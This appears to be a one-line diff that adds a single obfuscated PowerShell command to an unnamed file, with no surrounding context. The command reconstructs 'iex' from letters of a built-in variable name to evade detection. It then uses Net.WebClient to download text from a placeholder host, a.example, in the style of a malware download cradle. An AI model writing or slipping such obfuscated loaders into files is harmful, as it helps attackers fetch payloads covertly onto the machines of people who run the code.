@@ -1,0 +1,1 @@
+&((Get-Variable '*mdr*').Name[3,11,2]-join'') '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
